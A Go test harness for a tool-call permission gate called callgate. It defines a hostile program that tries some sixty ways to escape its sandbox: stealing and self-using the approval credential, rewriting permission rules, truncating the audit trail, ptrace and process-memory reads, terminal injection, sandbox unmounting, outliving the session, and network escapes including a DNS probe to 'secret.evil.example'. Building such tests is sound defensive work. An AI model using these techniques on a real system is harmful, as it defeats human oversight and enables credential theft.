package guard

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// world tells a hostile program everything about where it runs, so that no attempt fails for want of knowledge.
type world struct {
	Attempt string

	Home, Data, Config, ConfigDir, Program string // callgate's and its user's
	Workspace, Other                       string // a folder of the server's, and one outside it
	Secret                                 string // the contents of other people's files
	Shared                                 string // somebody else's file in the shared temporary folder

	Callgate, Sibling, Stranger int // processes: the gate, another server, another program of the user
	Inherited                   int // a descriptor of the data directory that callgate was started with

	Hub, Docker, Bus, Agent, Tmux, Abstract string // sockets
	Terminal                                string // the person's; nobody has it open
	REST, TCP4, TCP6, UDP                   string // addresses
	Network                                 string // the machine's namespace
	PidFile                                 string
}

// hostile is the program: it makes one attempt, and prints OUT and what it got if that succeeded.
func hostile(about string) {
	var w world
	if err := json.Unmarshal([]byte(about), &w); err != nil {
		fmt.Println("cannot begin:", err)
		return
	}
	for _, a := range attempts {
		if a.name == w.Attempt {
			got, err := a.try(&w)
			if err != nil {
				fmt.Println("failed:", err)
				return
			}
			fmt.Println("OUT:", got)
			return
		}
	}
	fmt.Println("cannot begin: no such attempt")
}

// What claims to stop an attempt.
const (
	byNamespaces = 1 << iota // the guard
	byLandlock
	byBox // the sandbox, with namespaces
	byLandlockBox

	bySandbox = byBox | byLandlockBox
	byGuard   = byNamespaces | byLandlock | bySandbox
	byCovers  = byNamespaces | bySandbox // what Landlock has no rule for, unless it allows nothing
	byMounts  = byNamespaces | byBox     // what Landlock has no rule for
)

// attempt is one way out.
type attempt struct {
	name  string
	about string // what it attacks: callgate, session or server
	held  int
	try   func(w *world) (got string, err error)

	scoped bool // only newer kernels stop it
}

var errNothing = errors.New("nothing there")

// holds returns the secret if b contains it.
func (w *world) holds(b []byte, err error) (string, error) {
	if err == nil && !bytes.Contains(b, []byte(w.Secret)) {
		err = errNothing
	}
	return w.Secret, err
}

func (w *world) credential() string { return filepath.Join(w.Data, "credentials", "approve") }

func reading(path func(w *world) string) func(*world) (string, error) {
	return func(w *world) (string, error) { return w.holds(os.ReadFile(path(w))) }
}

func writing(path func(w *world) string) func(*world) (string, error) {
	return func(w *world) (string, error) {
		f, err := os.OpenFile(path(w), os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o600)
		if err != nil {
			return "", err
		}
		defer f.Close()
		_, err = f.WriteString("hostile\n")
		return "wrote " + f.Name(), err
	}
}

func dialling(network string, address func(w *world) string) func(*world) (string, error) {
	return func(w *world) (string, error) {
		c, err := net.DialTimeout(network, address(w), 2*time.Second)
		if err != nil {
			return "", err
		}
		defer c.Close()
		_, _ = c.Write([]byte("hostile")) // the other side may not wait for it
		_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
		_, err = c.Read(make([]byte, 8))
		return "an answer from " + address(w), err
	}
}

// proc returns the path of a process's file.
func proc(pid int, name string) string { return fmt.Sprintf("/proc/%d/%s", pid, name) }

// environment looks for the secret among a process's variables.
func environment(pid func(w *world) int) func(*world) (string, error) {
	return func(w *world) (string, error) { return w.holds(os.ReadFile(proc(pid(w), "environ"))) }
}

// memory reads the first mapping of a process.
func memory(pid func(w *world) int) func(*world) (string, error) {
	return func(w *world) (string, error) {
		f, err := os.Open(proc(pid(w), "mem"))
		if err != nil {
			return "", err
		}
		defer f.Close()
		maps, err := os.ReadFile(proc(pid(w), "maps"))
		if err != nil {
			return "", err
		}
		start, _, _ := strings.Cut(string(maps), "-")
		at, err := strconv.ParseInt(start, 16, 64)
		if err != nil {
			return "", errNothing
		}
		_, err = f.ReadAt(make([]byte, 16), at)
		return "its memory", err
	}
}

// readv asks the kernel for a process's memory at an address of this one: the error says whether it may read at all.
func readv(pid func(w *world) int) func(*world) (string, error) {
	return func(w *world) (string, error) {
		var b [8]byte
		local := []unix.Iovec{{Base: &b[0], Len: 8}}
		_, err := unix.ProcessVMReadv(pid(w), local, []unix.RemoteIovec{{Base: uintptr(unsafe.Pointer(&b)), Len: 8}}, 0)
		if errors.Is(err, unix.EFAULT) {
			err = nil // it looked
		}
		return "its memory", err
	}
}

func tracing(pid func(w *world) int) func(*world) (string, error) {
	return func(w *world) (string, error) {
		runtime.LockOSThread()
		if err := unix.PtraceSeize(pid(w)); err != nil {
			return "", err
		}
		return "a traced process", nil
	}
}

func signalling(pid func(w *world) int) func(*world) (string, error) {
	return func(w *world) (string, error) { return "a signal", unix.Kill(pid(w), unix.SIGWINCH) }
}

// shell runs a shell script, which succeeds if it prints OUT.
func shell(text string) func(*world) (string, error) {
	return func(w *world) (string, error) {
		cmd := exec.Command("sh", "-c", text)
		cmd.Env = append(os.Environ(), "HOME="+w.Home, "DATA="+w.Data, "CALLGATE="+strconv.Itoa(w.Callgate), "SECRET="+w.Secret)
		out, err := cmd.CombinedOutput()
		if bytes.Contains(out, []byte("OUT")) {
			return string(out), nil
		}
		return "", fmt.Errorf("%v: %s", err, out)
	}
}

func theGate(w *world) int    { return w.Callgate }
func theSibling(w *world) int { return w.Sibling }

// attempts lists the ways out, the same in every mode.
var attempts = []attempt{
	{name: "read the credential", about: "callgate", held: byGuard, try: reading((*world).credential)},
	{name: "read it through a link", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		if err := os.Symlink(w.Data, "link"); err != nil {
			return "", err
		}
		return w.holds(os.ReadFile("link/credentials/approve"))
	}},
	{name: "read it through a hard link", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		if err := os.Link(w.credential(), "stolen"); err != nil {
			return "", err
		}
		return w.holds(os.ReadFile("stolen"))
	}},
	{name: "read it through callgate's root", about: "callgate", held: byGuard, try: reading(func(w *world) string { return proc(w.Callgate, "root") + w.credential() })},
	{name: "read it through callgate's folder", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		entries, err := os.ReadDir(proc(w.Callgate, "cwd") + "/")
		return fmt.Sprint(entries), err
	}},
	{name: "read it through another server's root", about: "callgate", held: byGuard, try: reading(func(w *world) string { return proc(w.Sibling, "root") + w.credential() })},
	{name: "read it through the user's other programs", about: "callgate", held: byGuard, try: reading(func(w *world) string { return proc(w.Stranger, "root") + w.credential() })},
	{name: "read it through an inherited descriptor", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		fd, err := unix.Openat(w.Inherited, "credentials/approve", unix.O_RDONLY, 0)
		if err != nil {
			return "", err
		}
		b := make([]byte, 100)
		n, err := unix.Read(fd, b)
		return w.holds(b[:max(n, 0)], err)
	}},
	{name: "read it by its file handle", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, w.credential(), 0)
		if err != nil {
			return "", err
		}
		at, err := unix.Open(w.Workspace, unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			return "", err
		}
		_, err = unix.OpenByHandleAt(at, handle, unix.O_RDONLY)
		return "the credential", err
	}},
	{name: "approve by REST", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		token, err := os.ReadFile(w.credential())
		if err != nil {
			return "", err
		}
		r, err := http.NewRequest(http.MethodPost, w.REST, nil) //nolint:noctx // a program of one request
		if err != nil {
			return "", err
		}
		r.Header.Set("Authorization", "Bearer "+string(token))
		answer, err := http.DefaultClient.Do(r)
		if err != nil {
			return "", err
		}
		defer answer.Body.Close()
		if answer.StatusCode != http.StatusOK {
			return "", errors.New(answer.Status)
		}
		return "its own call approved", nil
	}},
	{name: "list the data directory", about: "callgate", held: byCovers, try: func(w *world) (string, error) {
		entries, err := os.ReadDir(w.Data)
		if err == nil && len(entries) == 0 {
			err = errNothing
		}
		return fmt.Sprint(entries), err
	}},
	{name: "write the rules", about: "callgate", held: byGuard, try: writing(func(w *world) string { return filepath.Join(w.Data, "workers/default/permissions.jsonc") })},
	{name: "shorten the audit trail", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		return "a short trail", os.Truncate(filepath.Join(w.Data, "audit/1.jsonl"), 0)
	}},
	{name: "plant a file among callgate's", about: "callgate", held: byGuard, try: writing(func(w *world) string { return filepath.Join(w.Data, "planted") })},
	{name: "move the data directory away", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		return "the data directory moved", os.Rename(w.Data, w.Data+".old")
	}},
	{name: "move a folder above it away", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		return "a folder above moved", os.Rename(filepath.Dir(filepath.Dir(w.Data)), filepath.Join(w.Workspace, "elsewhere"))
	}},
	{name: "remove it", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		if _, err := os.Lstat(w.credential()); err != nil {
			return "", err
		}
		if err := os.RemoveAll(w.Data); err != nil {
			return "", err
		}
		return "nothing left of it", nil
	}},
	{name: "take the cover off", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		if err := unix.Unmount(w.Data, unix.MNT_DETACH); err != nil {
			return "", err
		}
		return w.holds(os.ReadFile(w.credential()))
	}},
	{name: "take it off in a namespace of its own", about: "callgate", held: byGuard, try: shell(`unshare -Urm sh -c 'umount -l "$DATA"; grep -q "$SECRET" "$DATA/credentials/approve"' && echo OUT`)},
	{name: "bind the home elsewhere", about: "callgate", held: byGuard, try: shell(`mkdir v; unshare -Urm sh -c 'mount --bind "$HOME" v && umount -l v/.local/share/callgate; grep -rq "$SECRET" v/.local' && echo OUT`)},
	{name: "change root to callgate's", about: "callgate", held: byGuard, try: shell(`unshare -Ur chroot "/proc/$CALLGATE/root" grep -q "$SECRET" "$DATA/credentials/approve" && echo OUT`)},
	{name: "enter callgate's namespaces", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		fd, err := unix.PidfdOpen(w.Callgate, 0)
		if err != nil {
			return "", err
		}
		runtime.LockOSThread()
		return "its namespaces", unix.Setns(fd, unix.CLONE_NEWUSER|unix.CLONE_NEWNS)
	}},
	{name: "change the configuration", about: "callgate", held: byMounts, try: writing(func(w *world) string { return w.Config })},
	{name: "replace the configuration", about: "callgate", held: byMounts, try: func(w *world) (string, error) {
		if err := os.WriteFile("new", []byte("hostile"), 0o600); err != nil {
			return "", err
		}
		return "another configuration", os.Rename("new", w.Config)
	}},
	{name: "plant a configuration", about: "callgate", held: byGuard, try: writing(func(w *world) string { return filepath.Join(w.ConfigDir, "callgate.yaml") })},
	{name: "replace callgate's program", about: "callgate", held: byCovers, try: func(w *world) (string, error) {
		if err := os.Remove(w.Program); err != nil {
			return "", err
		}
		return "another program", os.WriteFile(w.Program, []byte("#!/bin/sh"), 0o700)
	}},
	{name: "callgate's environment", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		b, err := os.ReadFile(proc(w.Callgate, "environ"))
		return fmt.Sprintf("%d bytes", len(b)), err
	}},
	{name: "callgate's memory", about: "callgate", held: byGuard, try: memory(theGate)},
	{name: "callgate's memory by readv", about: "callgate", held: byGuard, try: readv(theGate)},
	{name: "trace callgate", about: "callgate", held: byGuard, try: tracing(theGate)},
	{name: "callgate's descriptors", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		entries, err := os.ReadDir(proc(w.Callgate, "fd"))
		for _, e := range entries { // descriptor numbers alone are useless
			to, err := os.Readlink(proc(w.Callgate, "fd/"+e.Name()))
			if err == nil {
				return to, nil
			}
		}
		return "", errors.Join(err, errNothing)
	}},
	{name: "take a descriptor of callgate's", about: "callgate", held: byGuard, try: func(w *world) (string, error) {
		fd, err := unix.PidfdOpen(w.Callgate, 0)
		if err != nil {
			return "", err
		}
		_, err = unix.PidfdGetfd(fd, 1, 0)
		return "a descriptor", err
	}},
	{name: "signal callgate", about: "callgate", held: byGuard, try: signalling(theGate), scoped: true},
	{name: "connect to the hub", about: "callgate", held: byCovers, try: dialling("unix", func(w *world) string { return w.Hub })},
	{name: "another server's environment", about: "session", held: byGuard, try: environment(theSibling)},
	{name: "another server's memory", about: "session", held: byGuard, try: memory(theSibling)},
	{name: "another server's memory by readv", about: "session", held: byGuard, try: readv(theSibling)},
	{name: "trace another server", about: "session", held: byGuard, try: tracing(theSibling)},
	{name: "signal another server", about: "session", held: byGuard, try: signalling(theSibling), scoped: true},
	{name: "the environment of the user's other programs", about: "session", held: byGuard, try: environment(func(w *world) int { return w.Stranger })},
	{name: "type into a terminal", about: "session", held: byGuard, try: func(*world) (string, error) {
		master, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY, 0)
		if err != nil {
			return "", err
		}
		return "typed text", unix.IoctlSetPointerInt(master, unix.TIOCSTI, 'x')
	}},
	{name: "the controlling terminal", about: "session", held: byGuard, try: func(*world) (string, error) {
		_, err := os.OpenFile("/dev/tty", os.O_RDWR, 0)
		return "the terminal", err
	}},
	{name: "the person's terminal", about: "session", held: byCovers, try: func(w *world) (string, error) {
		f, err := os.OpenFile(w.Terminal, os.O_RDWR|unix.O_NOCTTY, 0)
		if err == nil {
			_, err = f.WriteString(w.Secret)
		}
		return "the terminal", err
	}},
	{name: "the person's tmux", about: "session", held: byCovers, try: dialling("unix", func(w *world) string { return w.Tmux })},
	{name: "the container runtime", about: "session", held: byCovers, try: dialling("unix", func(w *world) string { return w.Docker })},
	{name: "the message bus", about: "session", held: byCovers, try: dialling("unix", func(w *world) string { return w.Bus })},
	{name: "the key agent", about: "session", held: byCovers, try: dialling("unix", func(w *world) string { return w.Agent })},
	{name: "an abstract socket", about: "session", held: byGuard, try: dialling("unix", func(w *world) string { return w.Abstract }), scoped: true},
	{name: "outlive the session", about: "session", held: byGuard, try: func(w *world) (string, error) {
		cmd := exec.Command("/proc/self/exe")
		cmd.Env = []string{atOnce, sleepVariable + "=" + w.PidFile}
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if err := cmd.Start(); err != nil {
			return "", err
		}
		return "", errors.New("whether it did is seen from outside")
	}},
	{name: "read a file of the home", about: "server", held: bySandbox, try: reading(func(w *world) string { return filepath.Join(w.Home, ".ssh/config") })},
	{name: "read another project", about: "server", held: bySandbox, try: reading(func(w *world) string { return filepath.Join(w.Other, "secret.txt") })},
	{name: "read another project through a link", about: "server", held: bySandbox, try: func(w *world) (string, error) {
		if err := os.Symlink(w.Other, "other"); err != nil {
			return "", err
		}
		return w.holds(os.ReadFile("other/secret.txt"))
	}},
	{name: "read what others keep in /tmp", about: "server", held: bySandbox, try: reading(func(w *world) string { return w.Shared })},
	{name: "write an autostart file", about: "server", held: bySandbox, try: func(w *world) (string, error) {
		path := filepath.Join(w.Home, ".bashrc")
		if _, err := w.holds(os.ReadFile(path)); err != nil { // a private home has none
			return "", err
		}
		return path, os.WriteFile(path, nil, 0o600)
	}},
	{name: "write into another project", about: "server", held: bySandbox, try: writing(func(w *world) string { return filepath.Join(w.Other, "planted") })},
	{name: "write a system file", about: "server", held: bySandbox, try: func(*world) (string, error) {
		const path = "/usr/local/callgate-hostile-test"
		defer os.Remove(path)
		return path, os.WriteFile(path, nil, 0o600)
	}},
	{name: "the network by address", about: "server", held: bySandbox, try: dialling("tcp4", func(w *world) string { return w.TCP4 })},
	{name: "the network by IPv6", about: "server", held: bySandbox, try: dialling("tcp6", func(w *world) string { return w.TCP6 })},
	{name: "the network by a fast open", about: "server", held: bySandbox, try: func(w *world) (string, error) {
		to, err := net.ResolveTCPAddr("tcp4", w.TCP4)
		if err != nil {
			return "", err
		}
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			return "", err
		}
		defer unix.Close(fd)
		if err := unix.Sendto(fd, []byte("hostile"), unix.MSG_FASTOPEN, &unix.SockaddrInet4{Port: to.Port, Addr: [4]byte(to.IP.To4())}); err != nil {
			return "", err
		}
		_, err = unix.Getpeername(fd)
		return "a connection", err
	}},
	{name: "the network by another protocol", about: "server", held: bySandbox, try: func(w *world) (string, error) {
		to, err := net.ResolveTCPAddr("tcp4", w.TCP4)
		if err != nil {
			return "", err
		}
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP)
		if err != nil {
			return "", err
		}
		defer unix.Close(fd)
		return "a connection", unix.Connect(fd, &unix.SockaddrInet4{Port: to.Port, Addr: [4]byte(to.IP.To4())})
	}},
	{name: "the network by a ring of requests", about: "server", held: bySandbox, try: func(w *world) (string, error) {
		var params [120]byte
		fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&params)), 0)
		if errno != 0 {
			return "", errno
		}
		unix.Close(int(fd))
		return w.sameNetwork() // io_uring can connect without a system call that a filter sees
	}},
	{name: "the network by UDP", about: "server", held: bySandbox, try: dialling("udp4", func(w *world) string { return w.UDP })},
	{name: "a name by DNS", about: "server", held: bySandbox, try: func(w *world) (string, error) {
		c, err := net.Dial("udp", w.UDP) //nolint:noctx // where a name server would be
		if err != nil {
			return "", err
		}
		_ = c.SetDeadline(time.Now().Add(time.Second))
		if _, err = c.Write([]byte("secret.evil.example")); err == nil {
			_, err = c.Read(make([]byte, 8))
		}
		return "an answer", err
	}},
	{name: "raw packets", about: "server", held: bySandbox, try: func(w *world) (string, error) {
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
		if err != nil {
			return "", err
		}
		defer unix.Close(fd)
		return w.sameNetwork()
	}},
	{name: "a port that others can reach", about: "server", held: bySandbox, try: func(w *world) (string, error) {
		l, err := net.Listen("tcp4", "0.0.0.0:0") //nolint:noctx // at once
		if err != nil {
			return "", err
		}
		defer l.Close()
		return w.sameNetwork()
	}},
}

// sameNetwork returns the machine's network, or fails if the program has a private one.
func (w *world) sameNetwork() (string, error) {
	network, err := os.Readlink("/proc/self/ns/net")
	if err == nil && network != w.Network {
		err = errNothing
	}
	return network, err
}
